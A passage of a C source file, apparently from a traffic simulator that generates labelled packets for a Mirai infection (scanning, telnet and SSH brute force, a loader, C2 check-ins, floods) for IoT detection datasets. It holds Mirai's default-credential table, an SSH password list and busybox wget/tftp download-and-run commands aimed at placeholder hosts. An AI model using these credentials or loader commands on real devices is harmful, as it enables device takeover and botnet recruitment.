/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Attack scenarios: a Mirai infection (scan, telnet and SSH brute force, loader, C2, the victim
 * calling home, floods) and cleartext logins. */
#include "iotsec-common.h"

#include <jansson.h>
#include <time.h>

#include "sim.h"

#define C2_DOMAIN "cnc.changeme.com"
#define C2_IP "203.0.113.66"
#define LOADER_IP "198.51.100.23"
#define FLOOD_TARGET "203.0.113.200"
#define FLOOD_DOMAIN "www.example.com" /* the http flood's domain= option, sent as Host */
#define SCAN_PER_SLICE_US 50000u
#define FLOOD_SLICE_US 10000u
#define BRUTE_GIVE_UP 9u /* credentials tried on a device before the bot moves on */
/* The loader runs the bot as "./dvrHelper <id_tag>.<arch>"; the bot reports that id to its C2. */
#define BOT_ID "telnet.mips"
#define SSH_SESSIONS 12u /* sessions of the SSH brute force, one after the other */
#define SSH_TRIES 2u     /* passwords tried per session */
#define SSH_CLIENT "SSH-2.0-libssh_0.9.6"
#define POP3_HOST "pop.mail.example.net"
#define POP3_IP "192.0.2.110"
#define POP3_USER "j.doe"
#define POP3_PASS "Harbor-Lights-1987"

struct cred {
    const char *user, *pass;
};

/* Mirai's scanner.c table, in its order. */
static const struct cred creds[] = {
    {"root", "xc3511"},   {"root", "vizxv"},     {"root", "admin"},       {"admin", "admin"},
    {"root", "888888"},   {"root", "xmhdipc"},   {"root", "default"},     {"root", "juantech"},
    {"root", "123456"},   {"root", "54321"},     {"support", "support"},  {"root", ""},
    {"admin", "password"}, {"root", "root"},     {"root", "12345"},       {"user", "user"},
    {"admin", ""},        {"root", "pass"},      {"admin", "admin1234"},  {"root", "1111"},
    {"admin", "smcadmin"}, {"admin", "1111"},    {"root", "666666"},      {"root", "password"},
    {"root", "1234"},     {"root", "klv123"},    {"Administrator", "admin"}, {"service", "service"},
    {"supervisor", "supervisor"}, {"guest", "guest"}, {"guest", "12345"}, {"admin1", "password"},
    {"administrator", "1234"}, {"666666", "666666"}, {"888888", "888888"}, {"ubnt", "ubnt"},
    {"root", "klv1234"},  {"root", "Zte521"},    {"root", "hi3518"},      {"root", "jvbzd"},
    {"root", "anko"},     {"root", "zlxx."},     {"root", "7ujMko0vizxv"}, {"root", "7ujMko0admin"},
    {"root", "system"},   {"root", "ikwb"},      {"root", "dreambox"},    {"root", "user"},
    {"root", "realtek"},  {"root", "00000000"},  {"admin", "1111111"},    {"admin", "1234"},
    {"admin", "12345"},   {"admin", "54321"},    {"admin", "123456"},     {"admin", "7ujMko0admin"},
    {"admin", "pass"},    {"admin", "meinsm"},   {"tech", "tech"},        {"mother", "fucker"},
};

/* What an SSH password guesser tries: the usual server and IoT defaults. */
static const struct cred ssh_creds[] = {
    {"root", "root"},     {"admin", "admin"},   {"root", "123456"},   {"root", "password"},
    {"ubnt", "ubnt"},     {"pi", "raspberry"},  {"root", "admin"},    {"root", "1234"},
    {"support", "support"}, {"user", "user"},   {"root", "toor"},     {"admin", "password"},
    {"test", "test"},     {"root", "12345678"}, {"admin", "1234"},    {"root", "default"},
    {"oracle", "oracle"}, {"root", "qwerty"},   {"guest", "guest"},   {"root", "changeme"},
    {"admin", "123456"},  {"git", "git"},       {"root", "111111"},   {"ftpuser", "ftpuser"},
};

/* Mirai's attack ids (attack.h), used in the C2 command that starts each flood. */
static const struct {
    enum sim_att att;
    uint8_t id;
    const char *name;
} floods[SIM_FLOODS] = {
    {SIM_ATT_UDP_FLOOD, 0, "udp"},
    {SIM_ATT_SYN_FLOOD, 3, "syn"},
    {SIM_ATT_GRE_FLOOD, 6, "greip"},
    {SIM_ATT_HTTP_FLOOD, 10, "http"},
};
#define FLOOD_HTTP 3u /* index of the http attack in floods[] */

/* table.c's TABLE_HTTP_ONE .. FIVE: each http flood socket takes one at random. */
static const char *const mirai_uas[5] = {
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/52.0.2743.116 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/52.0.2743.116 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) "
    "Version/9.1.2 Safari/601.7.7",
};

/* KEXINIT name-lists: libssh 0.9.6's client defaults (plus ext-info-c), and the dropbear 2019.78
 * build of the NVR (CBC, zlib and DSS-only builds off). They negotiate curve25519-sha256,
 * ecdsa-sha2-nistp256, aes256-ctr and hmac-sha2-256. */
static const char *const ssh_kex_client[10] = {
    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
    "ecdh-sha2-nistp521,diffie-hellman-group18-sha512,diffie-hellman-group16-sha512,"
    "diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,ext-info-c",
    "ssh-ed25519,ecdsa-sha2-nistp521,ecdsa-sha2-nistp384,ecdsa-sha2-nistp256,rsa-sha2-512,"
    "rsa-sha2-256,ssh-rsa",
    "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,"
    "aes192-ctr,aes128-ctr",
    "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,"
    "aes192-ctr,aes128-ctr",
    "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,"
    "hmac-sha2-256,hmac-sha2-512,hmac-sha1",
    "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,"
    "hmac-sha2-256,hmac-sha2-512,hmac-sha1",
    "none",
    "none",
    "",
    "",
};
static const char *const ssh_kex_server[10] = {
    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp521,ecdh-sha2-nistp384,"
    "ecdh-sha2-nistp256,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,"
    "kexguess2@matt.ucc.asn.au",
    "ecdsa-sha2-nistp256,ssh-rsa,ssh-dss",
    "aes128-ctr,aes256-ctr",
    "aes128-ctr,aes256-ctr",
    "hmac-sha1,hmac-sha2-256",
    "hmac-sha1,hmac-sha2-256",
    "none",
    "none",
    "",
    "",
};

static struct sim_dev *bot(struct sim *s)
{
    return &s->dev[s->mirai.bot];
}

/* The device the telnet brute force broke into: a LAN device, or the router. */
static struct sim_dev *victim(struct sim *s)
{
    return s->mirai.victim < 0 ? &s->gw : &s->dev[s->mirai.victim];
}

static uint64_t at_fraction(const struct sim *s, unsigned pct)
{
    uint64_t off = s->opt.duration * SIM_US * pct / 100;
    return s->start_us + IOT_MAX(off, 40 * SIM_US); /* after every device has joined */
}

void sim_attacks_init(struct sim *s)
{
    s->mirai.bot = -1;
    s->mirai.victim = -1;
    s->mirai.ssh_target = -1;
    s->mirai.success_cred = SIZE_MAX;
    if (s->opt.scenario & SIM_SC_MIRAI) {
        int cam = sim_find_kind(s, "camera", 0);
        s->mirai.bot = cam >= 0 ? cam : 0;
        s->mirai.scan_sport = (uint16_t)(1024 + sim_range(s, 64000));
        s->mirai.scan_win = (uint16_t)sim_rand(s);
        s->mirai.flood_target = sim_ip_parse(FLOOD_TARGET);
        sim_sched(s, at_fraction(s, 20) + sim_range(s, 5 * SIM_US), EV_MIRAI_INFECT, 0, 0);
    }
    if (s->opt.scenario & SIM_SC_CLEAR)
        for (uint32_t k = 0; k < 5; k++)
            sim_sched(s, at_fraction(s, 30 + 5 * k) + sim_range(s, 2 * SIM_US), EV_CLEAR, 0, k);
}

/* ---- C2 ---- */

static void c2_send(struct sim *s, bool from_c2, const uint8_t *d, size_t n)
{
    struct sim_tcp *c = &s->mirai.c2;
    c->t = IOT_MAX(c->t, s->now);
    sim_tcp_send(s, c, from_c2, d, n);
}

/* The bot resolves its C2 through 8.8.8.8 (hard-coded in Mirai), connects to 23 and says hello. */
static void mirai_infect(struct sim *s)
{
    static const uint8_t hello[] = {0, 0, 0, 1, 0};
    struct sim_dev *b = bot(s);
    struct sim_host c2;
    uint32_t ip = sim_ip_parse(C2_IP);
    sim_att_source(s, SIM_ATT_C2, &b->h);
    sim_att_target(s, SIM_ATT_C2, ip);
    uint64_t t = sim_dns_lookup(s, b, s->now, SIM_ATT_C2, C2_DOMAIN, ip, 0x08080808u);
    sim_remote(s, ip, &c2);
    sim_tcp_begin(s, &s->mirai.c2, &b->h, sim_eph(s, b), &c2, 23, t, SIM_ATT_C2);
    sim_tcp_open(s, &s->mirai.c2);
    sim_tcp_send(s, &s->mirai.c2, false, hello, sizeof(hello));
    s->mirai.c2_up = true;
    sim_sched(s, s->now + 60 * SIM_US, EV_MIRAI_C2, 0, 0);
    sim_sched(s, s->now + 2 * SIM_US, EV_MIRAI_SCAN, 0, 0);
    sim_sched(s, s->now + 15 * SIM_US, EV_MIRAI_BRUTE, 0, 0);
    sim_sched(s, IOT_MAX(at_fraction(s, 33), s->now + 30 * SIM_US), EV_MIRAI_SSH, 0, 0);
    /* One flood after the other, never before the bot is up nor while the last one runs. */
    uint64_t at = s->now + 30 * SIM_US;
    for (uint32_t k = 0; k < SIM_FLOODS; k++) {
        at = IOT_MAX(at_fraction(s, 45 + 7 * k), at);
        sim_sched(s, at, EV_MIRAI_FLOOD, 0, k);
        at += (s->opt.flood_seconds + 1) * SIM_US;
    }
}

static void mirai_c2_beat(struct sim *s)
{
    static const uint8_t beat[] = {0, 0};
    c2_send(s, false, beat, sizeof(beat));
    c2_send(s, true, beat, sizeof(beat));
    sim_sched(s, s->now + sim_jitter_us(s, 60, 2), EV_MIRAI_C2, 0, 0);
}

/* The bot the loader started on the victim does what main.c does on a fresh start: resolve the
 * C2 name through 8.8.8.8, connect to port 23, then send the hello with three send() calls:
 * "\0\0\0\1" leaves at once, and Nagle holds the id length and the id until that segment is
 * acknowledged, so they travel together in a second segment (the CNC's initialHandler relies on
 * this: it reads exactly 4 bytes first). Its first heartbeat follows when select() first times
 * out (10 s), the next ones every sixth timeout (60 s); the CNC echoes each. */
static void mirai_callhome(struct sim *s, uint32_t beat)
{
    static const uint8_t magic[4] = {0, 0, 0, 1}, hb[2] = {0, 0};
    struct sim_mirai *m = &s->mirai;
    struct sim_tcp *c = &m->home;
    struct sim_dev *v = victim(s);
    if (beat) {
        if (!m->home_up)
            return;
        c->t = IOT_MAX(c->t, s->now);
        sim_tcp_send(s, c, false, hb, sizeof(hb));
        sim_tcp_send(s, c, true, hb, sizeof(hb));
        sim_sched(s, s->now + sim_jitter_us(s, 60, 2), EV_MIRAI_CALLHOME, 0, 1);
        return;
    }
    uint8_t id[1 + sizeof(BOT_ID)];
    struct sim_host c2;
    uint32_t ip = sim_ip_parse(C2_IP);
    sim_att_source(s, SIM_ATT_C2_CALLHOME, &v->h);
    sim_att_target(s, SIM_ATT_C2_CALLHOME, ip);
    uint64_t t = sim_dns_lookup(s, v, s->now, SIM_ATT_C2_CALLHOME, C2_DOMAIN, ip, 0x08080808u);
    sim_remote(s, ip, &c2);
    sim_tcp_begin(s, c, &v->h, sim_eph(s, v), &c2, 23, t, SIM_ATT_C2_CALLHOME);
    c->awin = v->p->win;
    sim_tcp_open(s, c);
    sim_tcp_send(s, c, false, magic, sizeof(magic));
    id[0] = (uint8_t)strlen(BOT_ID);
    memcpy(id + 1, BOT_ID, strlen(BOT_ID));
    sim_tcp_send(s, c, false, id, 1 + strlen(BOT_ID));
    m->home_up = true;
    sim_sched(s, c->t + 10 * SIM_US, EV_MIRAI_CALLHOME, 0, 1);
}

/* ---- scanning ---- */

/* Mirai's get_random_ip skips these; the simulator adds LAN targets on purpose. */
static bool reserved(uint32_t ip)
{
    uint8_t a = (uint8_t)(ip >> 24), b = (uint8_t)(ip >> 16);
    return a == 0 || a == 10 || a == 127 || a >= 224 || (a == 172 && b >= 16 && b < 32) ||
           (a == 192 && b == 168) || (a == 100 && b >= 64 && b < 128) || (a == 169 && b == 254) ||
           a == 3 || a == 15 || a == 16 || a == 56 || a == 6 || a == 7 || a == 11 || a == 21 ||
           a == 22 || a == 26 || a == 28 || a == 29 || a == 30 || a == 33 || a == 55 || a == 214 ||
           a == 215;
}

static const struct sim_dev *lan_host(const struct sim *s, uint32_t ip)
{
    if (ip == SIM_GW_IP)
        return &s->gw;
    uint32_t i = (ip & 255) - SIM_FIRST_HOST;
    if ((ip & 0xffffff00u) != SIM_LAN_NET || (ip & 255) < SIM_FIRST_HOST || i >= s->ndev)
        return NULL;
    return &s->dev[i];
}

static void scan_reply(struct sim *s, uint64_t t, const struct sim_host *from, uint32_t dst,
                       uint16_t port, bool open)
{
    struct sim_dev *b = bot(s);
    struct sim_mirai *m = &s->mirai;
    bool remote = (dst & 0xffffff00u) != SIM_LAN_NET;
    t += remote ? 20000 + sim_range(s, 150000) : 200 + sim_range(s, 800);
    if (!open) {
        sim_tcp_seg(s, t, SIM_ATT_MIRAI_SCAN, from, port, &b->h, m->scan_sport, 0, dst + 1,
                    SIM_TCP_RST | SIM_TCP_ACK, 0, NULL, 0, NULL, 0);
        m->scan_rst++;
        return;
    }
    static const uint8_t mss[4] = {2, 4, 5, 0xb4};
    sim_tcp_seg(s, t, SIM_ATT_MIRAI_SCAN, from, port, &b->h, m->scan_sport, (uint32_t)sim_rand(s),
                dst + 1, SIM_TCP_SYN | SIM_TCP_ACK, 29200, mss, sizeof(mss), NULL, 0);
    /* The SYN went out on a raw socket, so the bot's kernel resets the unexpected SYN-ACK. */
    sim_tcp_seg(s, t + 60, SIM_ATT_MIRAI_SCAN, &b->h, m->scan_sport, from, port, dst + 1, 0,
                SIM_TCP_RST, 0, NULL, 0, NULL, 0);
    m->scan_synack++;
}

/* One SYN with Mirai's fingerprint: seq == destination address, fixed window and port, no options. */
static void scan_one(struct sim *s, uint64_t t, uint32_t dst)
{
    struct sim_dev *b = bot(s);
    struct sim_mirai *m = &s->mirai;
    uint16_t port = m->scan_syn % 10 == 0 ? 2323 : 23;
    struct sim_host to;
    const struct sim_dev *h = lan_host(s, dst);
    if ((dst & 0xffffff00u) == SIM_LAN_NET && h == NULL) {
        sim_arp(s, t, SIM_ATT_MIRAI_SCAN, &b->h, dst, NULL); /* nobody there: ARP goes unanswered */
        return;
    }
    if (h == b)
        return;
    if (h)
        to = h->h;
    else
        sim_remote(s, dst, &to);
    sim_tcp_seg(s, t, SIM_ATT_MIRAI_SCAN, &b->h, m->scan_sport, &to, port, dst, 0, SIM_TCP_SYN,
                m->scan_win, NULL, 0, NULL, 0);
    m->scan_syn++;
    if (h) {
        bool open = port == 23 && (h->p->flags & SIM_F_TELNET);
        scan_reply(s, t, &h->h, dst, port, open);
        if (open)
            sim_att_target(s, SIM_ATT_MIRAI_SCAN, dst);
        return;
    }
    uint32_t r = sim_range(s, 1000);
    if (r < 20)
        scan_reply(s, t, &to, dst, port, r < 4);
}

static uint32_t scan_pick(struct sim *s)
{
    struct sim_mirai *m = &s->mirai;
    /* The first probes sweep the LAN's telnet hosts, so brute force has targets early. */
    while (m->local_probe < s->ndev + 1) {
        const struct sim_dev *h = m->local_probe == 0 ? &s->gw : &s->dev[m->local_probe - 1];
        m->local_probe++;
        if (h->p->flags & SIM_F_TELNET)
            return h->h.ip;
    }
    if (sim_range(s, 100) < 8)
        return SIM_LAN_NET | (2 + sim_range(s, 253));
    uint32_t ip;
    do
        ip = (uint32_t)sim_rand(s);
    while (reserved(ip));
    return ip;
}

static void mirai_scan(struct sim *s)
{
    uint32_t n = 12 + sim_range(s, 7); /* about 300 SYNs per second */
    sim_att_source(s, SIM_ATT_MIRAI_SCAN, &bot(s)->h);
    for (uint32_t i = 0; i < n; i++)
        scan_one(s, s->now + (uint64_t)i * SCAN_PER_SLICE_US / n + sim_range(s, 500),
                 scan_pick(s));
    sim_sched(s, s->now + SCAN_PER_SLICE_US, EV_MIRAI_SCAN, 0, 0);
}

/* ---- telnet brute force ---- */

static void tn_send(struct sim *s, struct sim_tcp *c, bool from_server, const char *text)
{
    sim_tcp_send(s, c, from_server, (const uint8_t *)text, strlen(text));
    sim_tcp_wait(c, 2000 + sim_range(s, 20000));
}

/* A line-based session: each step's client line (NULL: none, the server speaks first) and the
 * server's answer. */
static void replay(struct sim *s, struct sim_tcp *c, const char *const (*dialog)[2], size_t n)
{
    for (size_t i = 0; i < n; i++) {
        if (dialog[i][0])
            tn_send(s, c, false, dialog[i][0]);
        tn_send(s, c, true, dialog[i][1]);
    }
}

static void tn_line(struct sim *s, struct sim_tcp *c, const char *text)
{
    char buf[256];
    int n = snprintf(buf, sizeof(buf), "%s\r\n", text);
    if (n > 0 && (size_t)n < sizeof(buf))
        tn_send(s, c, false, buf);
}

/* Connect, answer the option negotiation the way Mirai's consume_iacs does, wait for login:. */
static void tn_connect(struct sim *s, struct sim_tcp *c, const struct sim_host *from, uint16_t port,
                       const struct sim_host *to)
{
    static const uint8_t iac_srv[] = {0xff, 0xfd, 0x18, 0xff, 0xfd, 0x20, 0xff, 0xfd, 0x23,
                                      0xff, 0xfd, 0x27, 0xff, 0xfb, 0x01, 0xff, 0xfb, 0x03};
    static const uint8_t iac_cli[] = {0xff, 0xfc, 0x18, 0xff, 0xfc, 0x20, 0xff, 0xfc, 0x23,
                                      0xff, 0xfc, 0x27, 0xff, 0xfd, 0x01, 0xff, 0xfd, 0x03};
    sim_tcp_begin(s, c, from, port, to, 23, c->t, c->tag);
    sim_tcp_open(s, c);
    sim_tcp_send(s, c, true, iac_srv, sizeof(iac_srv));
    sim_tcp_send(s, c, false, iac_cli, sizeof(iac_cli));
    tn_send(s, c, true, "\r\nlogin: ");
}

static bool cred_matches(const struct sim_dev *h, size_t k)
{
    return (h->p->flags & SIM_F_TELNET_OK) && h->p->telnet_user &&
           strcmp(h->p->telnet_user, creds[k].user) == 0 &&
           strcmp(h->p->telnet_pass, creds[k].pass) == 0;
}

/* Returns true when the login succeeded; the session is then left open for the loader. */
static bool tn_try(struct sim *s, struct sim_tcp *c, const struct sim_dev *h, size_t k)
{
    tn_line(s, c, creds[k].user);
    tn_send(s, c, true, "Password: ");
    tn_line(s, c, creds[k].pass);
    sim_tcp_wait(c, 300000 + sim_range(s, 900000));
    s->mirai.attempts++;
    if (cred_matches(h, k)) {
        tn_send(s, c, true, "\r\n\r\nBusyBox v1.19.4 (2016-05-11 11:20:12 CST) built-in shell "
                            "(ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ");
        return true;
    }
    tn_send(s, c, true, "\r\nLogin incorrect\r\n\r\nlogin: ");
    return false;
}

static void brute_targets(struct sim *s)
{
    struct sim_mirai *m = &s->mirai;
    for (size_t i = 0; i < s->ndev && m->nbrute < IOT_ARRAY_LEN(m->brute_targets); i++)
        if ((s->dev[i].p->flags & SIM_F_TELNET) && (int)i != m->bot)
            m->brute_targets[m->nbrute++] = (int)i;
    if (m->nbrute < IOT_ARRAY_LEN(m->brute_targets))
        m->brute_targets[m->nbrute++] = -1; /* the router also answered on 23 */
}

/* One telnet session (three attempts, as login(1) allows) against one target per event. */
static void mirai_brute(struct sim *s, uint32_t k)
{
    struct sim_mirai *m = &s->mirai;
    struct sim_dev *b = bot(s);
    if (k == 0 && m->nbrute == 0)
        brute_targets(s);
    if (k >= m->nbrute)
        return;
    const struct sim_dev *h = m->brute_targets[k] < 0 ? &s->gw : &s->dev[m->brute_targets[k]];
    struct sim_tcp c = {.t = s->now, .tag = SIM_ATT_TELNET_BRUTE};
    sim_att_source(s, SIM_ATT_TELNET_BRUTE, &b->h);
    sim_att_target(s, SIM_ATT_TELNET_BRUTE, h->h.ip);
    tn_connect(s, &c, &b->h, sim_eph(s, b), &h->h);
    for (int i = 0; i < 3; i++) {
        if (tn_try(s, &c, h, m->cred[k]++)) {
            m->victim = m->brute_targets[k];
            m->success_cred = m->cred[k] - 1;
            m->sess = c;
            sim_sched(s, c.t + 500000, EV_MIRAI_LOADER, 0, 0);
            sim_sched(s, s->now + 3 * SIM_US, EV_MIRAI_BRUTE, 0, k + 1);
            return;
        }
    }
    sim_tcp_close(s, &c);
    /* Weak targets are worked through until their credential comes up; others get a few tries. */
    size_t limit = (h->p->flags & SIM_F_TELNET_OK) ? IOT_ARRAY_LEN(creds) : BRUTE_GIVE_UP;
    bool more = m->cred[k] < limit && m->cred[k] + 3 <= IOT_ARRAY_LEN(creds);
    sim_sched(s, c.t + SIM_US + sim_range(s, 2 * SIM_US), EV_MIRAI_BRUTE, 0, more ? k : k + 1);
}

/* ---- loader ---- */

static size_t fake_elf(struct sim *s, uint8_t *p, size_t n, bool mips)
{
    static const uint8_t arm[] = {0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                                  2, 0, 40, 0, 1, 0, 0, 0};
    static const uint8_t mipsbe[] = {0x7f, 'E', 'L', 'F', 1, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                                     0, 2, 0, 8, 0, 0, 0, 1};
    sim_fill(s, p, n);
    memcpy(p, mips ? mipsbe : arm, sizeof(arm));
    return n;
}

static void loader_http(struct sim *s, const struct sim_dev *v, uint32_t lip, uint64_t t,
                        uint64_t *done)
{
    uint8_t elf[2200];
    char req[256];
    struct sim_tcp c;
    struct sim_host srv;
    int n = snprintf(req, sizeof(req), "GET /bins/mirai.arm7 HTTP/1.1\r\nHost: %s\r\n"
                                       "User-Agent: Wget\r\nConnection: close\r\n\r\n",
                     LOADER_IP);
    if (n < 0 || (size_t)n >= sizeof(req))
        return;
    sim_remote(s, lip, &srv);
    struct sim_dev *vv = (struct sim_dev *)v;
    sim_tcp_begin(s, &c, &v->h, sim_eph(s, vv), &srv, 80, t, SIM_ATT_LOADER);
    sim_tcp_open(s, &c);
    size_t len = fake_elf(s, elf, 1800 + sim_range(s, 300), false);
    sim_http(s, &c, req, "200 OK", "nginx/1.10.3", elf, len);
    sim_tcp_close(s, &c);
    *done = c.t;
}

/* TFTP read request, then 512-byte DATA blocks each acknowledged; the last block is short. */
static void loader_tftp(struct sim *s, const struct sim_dev *v, uint32_t lip, uint64_t t,
                        uint64_t *done)
{
    static const char rrq[] = "\x00\x01mirai.mips\x00octet";
    uint8_t elf[1400], blk[516];
    struct sim_host srv;
    struct sim_dev *vv = (struct sim_dev *)v;
    uint16_t cport = sim_eph(s, vv), sport = (uint16_t)(32768 + sim_range(s, 28000));
    sim_remote(s, lip, &srv);
    sim_udp(s, t, SIM_ATT_LOADER, &v->h, cport, &srv, 69, (const uint8_t *)rrq, sizeof(rrq));
    size_t len = fake_elf(s, elf, 1100 + sim_range(s, 250), true);
    for (uint16_t b = 1; (size_t)(b - 1) * 512 <= len; b++) {
        size_t off = (size_t)(b - 1) * 512, k = IOT_MIN((size_t)512, len - off);
        t += 20000 + sim_range(s, 30000);
        blk[0] = 0;
        blk[1] = 3;
        blk[2] = (uint8_t)(b >> 8);
        blk[3] = (uint8_t)b;
        memcpy(blk + 4, elf + off, k);
        sim_udp(s, t, SIM_ATT_LOADER, &srv, sport, &v->h, cport, blk, 4 + k);
        uint8_t ack[4] = {0, 4, (uint8_t)(b >> 8), (uint8_t)b};
        t += 300 + sim_range(s, 700);
        sim_udp(s, t, SIM_ATT_LOADER, &v->h, cport, &srv, sport, ack, sizeof(ack));
        if (k < 512)
            break;
    }
    *done = t;
}

static void mirai_loader(struct sim *s)
{
    static const char *const probe[][2] = {
        {"enable", "\r\n# "},
        {"system", "\r\n-sh: system: not found\r\n# "},
        {"shell", "\r\n-sh: shell: not found\r\n# "},
        {"sh", "\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# "},
        {"/bin/busybox MIRAI", "\r\nMIRAI: applet not found\r\n# "},
    };
    struct sim_mirai *m = &s->mirai;
    struct sim_tcp *c = &m->sess;
    const struct sim_dev *v = victim(s);
    uint32_t lip = sim_ip_parse(LOADER_IP);
    char cmd[256];
    uint64_t done = 0;
    c->tag = SIM_ATT_LOADER;
    c->t = IOT_MAX(c->t, s->now);
    sim_att_source(s, SIM_ATT_LOADER, &bot(s)->h);
    sim_att_target(s, SIM_ATT_LOADER, v->h.ip);
    sim_att_target(s, SIM_ATT_LOADER, lip);
    for (size_t i = 0; i < IOT_ARRAY_LEN(probe); i++) {
        tn_line(s, c, probe[i][0]);
        tn_send(s, c, true, probe[i][1]);
    }
    int n = snprintf(cmd, sizeof(cmd), "/bin/busybox wget http://%s/bins/mirai.arm7 -O /tmp/.m; "
                                       "chmod +x /tmp/.m; /tmp/.m", LOADER_IP);
    if (n < 0 || (size_t)n >= sizeof(cmd))
        return;
    tn_line(s, c, cmd);
    loader_http(s, v, lip, c->t + 5000, &done);
    c->t = IOT_MAX(c->t, done);
    tn_send(s, c, true, "\r\nConnecting to " LOADER_IP " (" LOADER_IP ":80)\r\n"
                        ".m                   100% |*******************************|  1987   0:00:00 ETA\r\n# ");
    n = snprintf(cmd, sizeof(cmd), "/bin/busybox tftp -g -l dvrHelper -r mirai.mips %s; "
                                   "/bin/busybox chmod 777 dvrHelper; ./dvrHelper " BOT_ID,
                 LOADER_IP);
    if (n < 0 || (size_t)n >= sizeof(cmd))
        return;
    tn_line(s, c, cmd);
    loader_tftp(s, v, lip, c->t + 5000, &done);
    c->t = IOT_MAX(c->t, done);
    /* The bot prints TABLE_EXEC_SUCCESS, forks into the background and starts calling home. */
    tn_send(s, c, true, "\r\nlistening tun0\r\n# ");
    sim_sched(s, done + 20000 + sim_range(s, 200000), EV_MIRAI_CALLHOME, 0, 0);
    sim_tcp_close(s, c);
}

/* ---- SSH brute force ---- */

/* One password-guessing session against h's dropbear, as a libssh-based guesser runs it:
 * identification strings, KEXINIT each way, ECDH, NEWKEYS, then (sealed) the userauth service
 * and SSH_TRIES password requests, each refused after dropbear's failure delay; then DISCONNECT
 * and FIN. Returns the session's end. */
static uint64_t ssh_session(struct sim *s, const struct sim_dev *h)
{
    struct sim_mirai *m = &s->mirai;
    struct sim_dev *b = bot(s);
    struct sim_tcp c;
    uint8_t buf[1400];
    size_t n;
    sim_tcp_begin(s, &c, &b->h, sim_eph(s, b), &h->h, h->p->ssh_port, s->now, SIM_ATT_SSH_BRUTE);
    c.awin = b->p->win;
    sim_tcp_open(s, &c);
    /* libssh sends its identification as soon as the socket connects; dropbear's forked child
     * answers with its own, and its KEXINIT right behind it. */
    n = sim_str(buf, sizeof(buf), SSH_CLIENT "\r\n");
    sim_tcp_send(s, &c, false, buf, n);
    sim_tcp_wait(&c, 2000 + sim_range(s, 6000));
    n = sim_str(buf, sizeof(buf), h->p->ssh_banner);
    n += sim_str(buf + n, sizeof(buf) - n, "\r\n");
    sim_tcp_send(s, &c, true, buf, n);
    n = sim_ssh_kexinit(s, buf, sizeof(buf), ssh_kex_server);
    sim_tcp_send(s, &c, true, buf, n);
    n = sim_ssh_kexinit(s, buf, sizeof(buf), ssh_kex_client);
    sim_tcp_send(s, &c, false, buf, n);
    n = sim_ssh_ecdh_init(s, buf, sizeof(buf));
    sim_tcp_send(s, &c, false, buf, n);
    sim_tcp_wait(&c, 60000 + sim_range(s, 90000)); /* an NVR's CPU signs the exchange hash */
    n = sim_ssh_ecdh_reply(s, buf, sizeof(buf), m->ssh_hostkey);
    sim_tcp_send(s, &c, true, buf, n);
    n = sim_ssh_newkeys(s, buf, sizeof(buf));
    sim_tcp_send(s, &c, false, buf, n);
    n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + strlen("ssh-userauth")); /* SERVICE_REQUEST */
    sim_tcp_send(s, &c, false, buf, n);
    n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + strlen("ssh-userauth")); /* SERVICE_ACCEPT */
    sim_tcp_send(s, &c, true, buf, n);
    for (uint32_t i = 0; i < SSH_TRIES; i++) {
        const struct cred *cr = &ssh_creds[m->ssh_attempts++ % IOT_ARRAY_LEN(ssh_creds)];
        /* USERAUTH_REQUEST: user, "ssh-connection", "password", FALSE, the password. */
        size_t req = 1 + 4 + strlen(cr->user) + 4 + 14 + 4 + 8 + 1 + 4 + strlen(cr->pass);
        n = sim_ssh_sealed(s, buf, sizeof(buf), req);
        sim_tcp_send(s, &c, false, buf, n);
        sim_tcp_wait(&c, 250000 + sim_range(s, 100000)); /* dropbear delays each refusal */
        /* USERAUTH_FAILURE: "publickey,password", partial success FALSE. */
        n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + 18 + 1);
        sim_tcp_send(s, &c, true, buf, n);
    }
    /* DISCONNECT: reason 11 (by application), "Bye Bye", no language tag. */
    n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + 4 + 7 + 4);
    sim_tcp_send(s, &c, false, buf, n);
    sim_tcp_close(s, &c);
    return c.t;
}

/* Bursts of short sessions against the first device with an SSH server on the LAN: the bot's
 * scanner found it, on whatever port it listens. */
static void mirai_ssh(struct sim *s)
{
    struct sim_mirai *m = &s->mirai;
    if (m->ssh_sessions == 0 && m->ssh_target < 0) {
        for (size_t i = 0; i < s->ndev && m->ssh_target < 0; i++)
            if (s->dev[i].p->ssh_banner && (int)i != m->bot)
                m->ssh_target = (int)i;
        if (m->ssh_target < 0)
            return;
        sim_fill(s, m->ssh_hostkey, sizeof(m->ssh_hostkey));
        sim_att_source(s, SIM_ATT_SSH_BRUTE, &bot(s)->h);
        sim_att_target(s, SIM_ATT_SSH_BRUTE, s->dev[m->ssh_target].h.ip);
    }
    if (m->ssh_target < 0 || m->ssh_sessions >= SSH_SESSIONS)
        return;
